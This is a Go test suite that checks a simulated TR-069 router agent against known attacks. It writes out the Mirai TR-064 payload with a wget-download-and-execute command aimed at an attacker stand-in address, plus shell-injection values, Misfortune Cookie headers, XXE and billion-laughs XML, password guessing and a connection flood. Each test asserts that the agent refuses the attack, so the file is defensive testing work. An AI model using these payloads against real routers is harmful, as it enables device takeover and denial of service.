package zoo

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"gatehouse/lab/acs"
)

// mirai is the body and the header field of November 2016: TR-064 on the port
// of connection requests.
const (
	shell     = "`cd /tmp;wget http://203.0.113.66/2;chmod 777 2;./2`"
	miraiBody = `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"> <SOAP-ENV:Body>  <u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">   <NewNTPServer1>` + shell + `</NewNTPServer1>   <NewNTPServer2></NewNTPServer2>  </u:SetNTPServers> </SOAP-ENV:Body></SOAP-ENV:Envelope>`
)

// shout sends raw bytes to the connection request port and returns the status
// lines that come back; "" when the connection was closed without a word.
func (h *house) shout(text string) string {
	h.t.Helper()
	conn, err := h.net.From("203.0.113.66").Dial(context.Background(), "tcp", wanIP+":7547")
	if err != nil {
		h.t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Minute))
	go io.WriteString(conn, text)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return ""
	}
	return resp.Status
}

// unharmed tells that the agent still does what it should.
func (h *house) unharmed() {
	h.t.Helper()
	n := len(h.acs.Sessions())
	if r := h.knock(); !r.OK() {
		h.t.Errorf("connection request afterwards: %v", r.Statuses)
	}
	h.good(n + 1)
}

func TestMiraiOnTheConnectionRequestPort(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		h.good(1)
		path := mustPath(t, h.get(ms+"ConnectionRequestURL"))
		for _, target := range []string{"/UD/act?1", "/", path} {
			text := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"+
				"SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n%s", target, len(miraiBody), miraiBody)
			if got := h.shout(text); !strings.HasPrefix(got, "404") && !strings.HasPrefix(got, "405") {
				t.Errorf("%s: %q", target, got)
			}
		}
		if h.log.has("wget") || h.log.has("NewNTPServer") {
			t.Error("the body was read and logged")
		}
		h.unharmed()
	})
}

func mustPath(t *testing.T, text string) string {
	t.Helper()
	u, err := url.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	return u.RequestURI()
}

// TestMisfortuneCookie: heads that have broken others (CVE-2014-9222 and kin).
func TestMisfortuneCookie(t *testing.T) {
	get := func(fields string) string { return "GET / HTTP/1.1\r\nHost: x\r\n" + fields + "\r\n" }
	for name, text := range map[string]string{
		"misfortune":        get("Cookie: C107373883=/omg1337hax\r\n"),
		"misfortune, long":  get("Cookie: C107373883=" + strings.Repeat("A", 1<<20) + "\r\n"),
		"64 kB of a field":  get("X: " + strings.Repeat("a", 64<<10) + "\r\n"),
		"10,000 fields":     get(strings.Repeat("X: y\r\n", 10_000)),
		"no line end":       strings.Repeat("A", 1<<20),
		"no version":        "GET /\r\n\r\n",
		"long target":       "GET /" + strings.Repeat("a", 100_000) + " HTTP/1.1\r\n\r\n",
		"NULs":              get("\x00\x00\x00: \x00\r\n"),
		"long credentials":  get(`Authorization: Digest username="` + strings.Repeat(`\"`, 4000) + "\r\n"),
		"two lengths":       "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\n",
		"negative length":   "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
		"length and chunks": "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			story(t, plan{}, func(t *testing.T, h *house) {
				h.start()
				h.good(1)
				var before, after runtime.MemStats
				runtime.ReadMemStats(&before)
				got := h.shout(text)
				runtime.ReadMemStats(&after)
				if len(got) > 0 && got[0] != '4' {
					t.Errorf("answered %q", got)
				}
				h.unharmed()
			})
		})
	}
}

// hidden are the secrets of TR-181, which read as "".
var hidden = regexp.MustCompile("(Password|Passphrase|Secret)$")

// lists are texts that are lists, of anything that a host may be called.
var lists = regexp.MustCompile(`Time\.Client\.\d+\.Servers$`)

// TestShellInValues: the string of Mirai by way of SetParameterValues, wherever
// text is taken: stored as it is, or refused; nothing else.
func TestShellInValues(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		h.good(1)
		h.talk(func(c *acs.Conversation) error {
			infos, err := c.GetParameterNames("Device.", false)
			if err != nil {
				return err
			}
			tried := 0
			for _, i := range infos {
				if !i.Writable || strings.HasSuffix(i.Name, ".") || i.Name == ms+"URL" ||
					strings.HasPrefix(i.Name, ms+"Conn") || i.Name == ms+"Username" || i.Name == ms+"Password" {
					continue
				}
				v, err := c.GetParameterValues(i.Name)
				if err != nil || v[0].Type != "xsd:string" {
					continue
				}
				tried++
				for _, text := range []string{shell, "$(reboot)", "a;reboot", "|reboot", "\nreboot\n", "../../etc/passwd", "'\"`$\\"} {
					if _, err := c.SetParameterValues("", acs.P(i.Name, "xsd:string", text)); err != nil {
						wantParam(t, err, 9007, 9001)
						continue
					}
					want := text
					switch {
					case hidden.MatchString(i.Name):
						want = "" // TR-181: hidden
					case lists.MatchString(i.Name):
						want = strings.TrimSpace(text) // TR-106 3.2.3: blanks around an item are none of it
					}
					now, err := c.GetParameterValues(i.Name)
					if err != nil || now[0].Value != want {
						t.Errorf("%s: %q became %q, %v", i.Name, text, now, err)
					}
				}
			}
			if tried < 5 {
				t.Errorf("%d texts tried", tried)
			}
			for _, bad := range []string{"javascript:alert(1)", "file:///etc/passwd", shell, "http://", "ftp://x/", "http://" + strings.Repeat("a", 3000)} {
				_, err := c.SetParameterValues("", acs.P(ms+"URL", "xsd:string", bad))
				wantParam(t, err, 9007)
			}
			return nil
		})
		h.unharmed()
	})
}

// TestLongValues is the TP-Link row: what a stack buffer of 3,072 bytes did not
// bear is refused with its name, or stored whole.
func TestLongValues(t *testing.T) {
	for _, size := range []int{64, 65, 3071, 3072, 3073, 64 << 10, 1 << 20, 16 << 20} {
		t.Run(fmt.Sprint(size), func(t *testing.T) {
			story(t, plan{o: acs.Options{MaxBody: 64 << 20}, quiet: nil}, func(t *testing.T, h *house) {
				h.start()
				h.good(1)
				long := strings.Repeat("A", size)
				h.acs.Queue("", func(c *acs.Conversation) error {
					_, err := c.SetParameterValues("", acs.P(di+"ProvisioningCode", "xsd:string", long))
					switch f := acs.FaultOf(err); {
					case size == 64 && err == nil:
					case f != nil && (f.Code == 9003 || f.Code == 9004):
					case size >= 1<<20: // or the session ends: nobody reads that much
					default:
						t.Errorf("%v", err)
					}
					if size >= 1<<20 {
						return nil
					}
					_, err = c.SetParameterValues("", acs.P("Device."+long+".X", "xsd:string", "x"))
					if f := acs.FaultOf(err); f == nil {
						t.Errorf("long name: %v", err)
					}
					return nil
				})
				h.knock()
				h.session(2)
				time.Sleep(time.Hour)
				h.unharmed()
				if got := len(h.get(di + "ProvisioningCode")); got != 0 && got != 64 {
					t.Errorf("%d bytes are stored", got)
				}
			})
		})
	}
}

// evil are bodies of a rogue ACS, in place of a request.
func evil() map[string]string {
	structs := strings.Repeat(`<ParameterValueStruct><Name>Device.DeviceInfo.ProvisioningCode</Name><Value xsi:type="xsd:string">x</Value></ParameterValueStruct>`, 100_000)
	body := func(inner string) string {
		return `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><s:Header><cwmp:ID s:mustUnderstand="1">1</cwmp:ID></s:Header><s:Body>` + inner + `</s:Body></s:Envelope>`
	}
	laughs := `<!ENTITY a0 "ha">`
	for i := 1; i < 12; i++ {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
	}
	get := func(name string) string {
		return body(`<cwmp:GetParameterValues><ParameterNames><string>` + name + `</string></ParameterNames></cwmp:GetParameterValues>`)
	}
	return map[string]string{
		"100,000 structs": body(`<cwmp:SetParameterValues><ParameterList>` + structs + `</ParameterList><ParameterKey>x</ParameterKey></cwmp:SetParameterValues>`),
		"xxe":             `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + get("&e;"),
		"external dtd":    `<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://203.0.113.66/x.dtd">` + get("Device."),
		"billion laughs":  `<?xml version="1.0"?><!DOCTYPE x [` + laughs + `]>` + get("&a11;"),
		"deep":            body(strings.Repeat("<a>", 100_000)),
		"deep and closed": body(strings.Repeat("<a>", 10_000) + strings.Repeat("</a>", 10_000)),
		"attributes":      body("<cwmp:Reboot " + strings.Repeat("a", 1000) + attributes(50_000) + "/>"),
		"long name":       body("<" + strings.Repeat("a", 1<<20) + "/>"),
		"comment":         body("<!--" + strings.Repeat("-x", 1<<20) + "--><cwmp:GetRPCMethods/>"),
		"utf-16":          "\xff\xfe<\x00?\x00x\x00m\x00l\x00",
		"other encoding":  `<?xml version="1.0" encoding="UTF-7"?>` + get("+ADw-"),
		"not utf-8":       get("\xff\xfe"),
		"control byte":    get("&#1;"),
		"two bodies":      strings.Replace(get("Device."), "</s:Envelope>", "<s:Body><cwmp:FactoryReset/></s:Body></s:Envelope>", 1),
		"two requests":    body(`<cwmp:GetRPCMethods/><cwmp:FactoryReset/>`),
		"must understand": strings.Replace(get("Device."), "<s:Header>", `<s:Header><x:Obey xmlns:x="urn:x" s:mustUnderstand="1"/>`, 1),
	}
}

func attributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` a%d="x"`, i)
	}
	return b.String()
}

// TestRogueACS: none of it is carried out by halves, ends the process, fills
// the memory or opens another connection.
func TestRogueACS(t *testing.T) {
	for name, text := range evil() {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			story(t, plan{quiet: []acs.Rule{acs.RuleSOAP, acs.RuleOrder, acs.RuleResponse}}, func(t *testing.T, h *house) {
				thief, err := h.net.Listen("tcp", "203.0.113.66:80")
				if err != nil {
					t.Fatal(err)
				}
				defer thief.Close()
				go func() {
					if c, err := thief.Accept(); err == nil {
						c.Close()
						t.Error("the agent fetches what an envelope names")
					}
				}()
				h.start()
				h.good(1)
				runtime.ReadMemStats(&before)
				var answer *acs.Message
				h.acs.Queue("", func(c *acs.Conversation) (err error) { answer, err = c.Raw(text); return err })
				h.knock()
				h.session(2)
				runtime.ReadMemStats(&after)
				const most = 32 << 20 // the text itself is 12 MB in the largest case, and the bench keeps copies
				if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > most+8*int64(len(text)) {
					t.Errorf("the heap grew by %d kB", grown>>10)
				}
				if answer != nil && answer.Fault == nil && name != "comment" && name != "two requests" && name != "two bodies" && name != "not utf-8" {
					t.Errorf("answered with %s", answer.Method)
				}
				if answer != nil && (strings.Contains(answer.Body.Local, "FactoryReset") || h.log.has("root:x:")) {
					t.Errorf("answered with %s", answer.Method)
				}
				time.Sleep(time.Hour)
				h.unharmed()
				if _, resets := h.router.Restarts(); resets > 0 {
					t.Error("the router was reset")
				}
			})
		})
	}
}

// TestBruteForce: each failure is counted, the log names the source and is not
// flooded, answers get slower, and who knows the password is not shut out.
func TestBruteForce(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		h.good(1)
		thief := h.net.From("203.0.113.66").Dial
		var last time.Duration
		const tries = 30
		for i := range tries {
			r, err := h.acs.Knock(context.Background(), cpe, acs.ConnectionRequest{
				URL: h.get(ms + "ConnectionRequestURL"), Username: crUser, Password: fmt.Sprint("guess", i), Style: acs.Curl, Dial: thief, Timeout: time.Minute,
			})
			if err != nil || r.Status != 401 {
				t.Fatalf("guess %d: %v, %v", i, r.Statuses, err)
			}
			last = r.Took
		}
		if last < time.Second {
			t.Errorf("the last guess was answered after %v", last)
		}
		if n := strings.Count(h.log.String(), "wrong credentials"); n < 1 || n > 5 || !h.log.has("203.0.113.66") {
			t.Errorf("%d lines in the log", n)
		}
		if h.log.has("guess1") {
			t.Error("a password is in the log")
		}
		h.none(1, 2*time.Minute)
		h.acs.Knock(context.Background(), cpe, acs.ConnectionRequest{
			URL: h.get(ms + "ConnectionRequestURL"), Username: crUser, Password: "one more", Style: acs.Curl, Dial: thief, Timeout: time.Minute,
		})
		if got := counted(h.log.String()); got != tries+1 {
			t.Errorf("the log counts %d failures", got)
		}
		if got := h.status().Counters.ConnectionRequests["http"]; got.Refused != tries+1 || got.Accepted != 0 {
			t.Errorf("counted: %+v", got)
		}
		h.unharmed()
	})
}

// counted adds up what the log says of wrong credentials.
func counted(log string) (n int) {
	for line := range strings.Lines(log) {
		if _, times, ok := strings.Cut(line, " times="); ok && strings.Contains(line, "wrong credentials") {
			k := 0
			fmt.Sscan(times, &k)
			n += k
		}
	}
	return n
}

// TestSecrets: no password is readable anywhere but where it belongs.
func TestSecrets(t *testing.T) {
	p := plan{o: acs.Options{Auth: acs.AuthDigest, Username: user, Password: pass}, conf: []string{"config log 'log'", " option soap '1'", " option level 'debug'"}}
	const fresh, freshCR = "n3w-s3cret", "n3w-kn0ck"
	story(t, p, func(t *testing.T, h *house) {
		h.start()
		h.good(1)
		seen := new(logbook)
		h.talk(func(c *acs.Conversation) error {
			for range 2 {
				v, err := c.GetParameterValues("")
				if err != nil {
					return err
				}
				for _, x := range v {
					fmt.Fprintln(seen, x.Name, x.Value)
				}
				if _, err := c.SetParameterValues("", acs.P(ms+"ConnectionRequestPassword", "xsd:string", freshCR),
					acs.P(ms+"STUNPassword", "xsd:string", fresh)); err != nil && acs.FaultOf(err) == nil {
					return err
				}
				if _, err := c.SetParameterValues("", acs.P(ms+"ConnectionRequestPassword", "xsd:string", freshCR)); err != nil {
					return err
				}
				if err := c.SetParameterAttributes(acs.Notify(ms+"ConnectionRequestPassword", 2)); err != nil && acs.FaultOf(err) == nil {
					return err
				}
			}
			return nil
		})
		h.boot()
		s := h.good(3)
		for _, x := range s.Inform.Parameters {
			fmt.Fprintln(seen, x.Name, x.Value)
		}
		for v, err := range h.agent.API().Get(context.Background(), root, []string{"Device."}) {
			if err == nil {
				fmt.Fprintln(seen, v.Name, v.Value)
			}
		}
		fmt.Fprintf(seen, "%+v %#v", h.status(), h.status())
		for name, text := range map[string]string{"log": h.log.String(), "dump": h.dumped.String(), "what was read": seen.String()} {
			for _, secret := range []string{pass, crPass, fresh, freshCR} {
				if i := strings.Index(text, secret); i >= 0 {
					t.Errorf("%q is in the %s: …%s", secret, name, text[max(0, i-200):min(len(text), i+50)])
				}
			}
		}
		if !strings.Contains(h.dumped.String(), "ConnectionRequestPassword") {
			t.Error("nothing was dumped: this test proves nothing")
		}
	})
}

// TestScan: the port under a scan. Clients that say nothing cost a slot each,
// and whoever knows the password gets through at once.
func TestScan(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		h.good(1)
		var open []net.Conn
		defer func() {
			for _, c := range open {
				c.Close()
			}
		}()
		for i := range 1000 {
			from := h.net.From(fmt.Sprintf("203.0.113.%d", 100+i%100))
			c, err := from.Dial(context.Background(), "tcp", wanIP+":7547")
			if err != nil {
				t.Fatal(err)
			}
			if i%10 == 0 { // these are slow rather than silent
				io.WriteString(c, "GET / HT")
			}
			open = append(open, c)
			time.Sleep(time.Millisecond) // a thousand a second
		}
		if r := h.knock(); !r.OK() || r.Took > 100*time.Millisecond {
			t.Errorf("%v after %v", r.Statuses, r.Took)
		}
		h.good(2)
	})
}
